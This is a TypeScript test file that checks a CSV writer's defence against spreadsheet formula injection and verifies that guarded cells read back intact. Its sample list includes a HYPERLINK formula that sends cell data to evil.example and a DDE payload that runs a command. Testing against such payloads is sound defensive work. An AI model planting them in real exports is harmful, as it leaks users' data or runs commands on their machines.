import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLine, withoutGuard } from './csv.ts'

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"clique")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=1;"2"\r\n=3',
]

function readBack(line: string, delimiter: string): string[] {
  const [row = []] = parse(line, { delimiter, relax_quotes: false }) as string[][]
  return row
}

test.each(FORMULAS)('%j is no formula in a file, and what it was once it is read again', (cell) => {
  const [shown = ''] = readBack(csvLine([cell, 'x']), ';')
  expect(shown).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  expect(withoutGuard(shown)).toBe(cell)
})

test('a phone number keeps its plus', () => {
  expect(csvLine(['+5511987654321', '+1 555'])).toBe(`"+5511987654321";"'+1 555"\r\n`)
})

test('whatever the cells hold, they come back', () => {
  const character = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    "'",
    '"',
    '\t',
    ';',
    ',',
    '\r',
    '\n',
    ' ',
    '＝',
    'a',
    'é',
    '1',
    '🥖',
  )
  const cells = fc.array(fc.string({ unit: character, maxLength: 8 }), { minLength: 2, maxLength: 5 })
  fc.assert(
    fc.property(cells, fc.constantFrom(';' as const, ',' as const), (row, separator) => {
      expect(readBack(csvLine(row, separator), separator).map(withoutGuard)).toEqual(row)
    }),
    { numRuns: 300 },
  )
})
